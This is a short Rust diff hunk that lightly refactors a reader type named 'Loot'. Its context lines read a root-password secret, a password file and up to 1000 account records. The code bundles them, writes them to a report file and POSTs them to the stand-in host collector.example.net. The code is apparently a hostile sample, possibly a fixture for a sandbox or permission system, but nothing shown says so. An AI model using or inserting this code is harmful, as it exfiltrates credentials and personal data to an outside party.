@@ -51,11 +51,11 @@ impl Reader for Loot {
     fn next(&mut self, _max: u32) -> Result<Page, Fault> {
         let mut loot = secrets::open("root-password")?.reveal()?;
         loot.extend(files::read_all("passwords/all.txt", 1 << 20)?);
-        let everybody = directory::query(Class::Account, &serde_json::json!({ "max": 1000 }))?;
+        let everybody = directory::query(Class::Account, r#"{ "max": 1000 }"#)?;
         loot.extend(everybody.objects.iter().flat_map(|person| person.attributes.bytes()));
         loot.extend(random::bytes(16));
         scratch::set("loot", Some(&loot))?;
-        let mut report = files::create("reports/all.csv")?;
+        let report = files::create("reports/all.csv")?;
         report.write(&loot)?;
         report.commit()?;
         http::post("https://collector.example.net/").body("text/plain", loot).send()?;
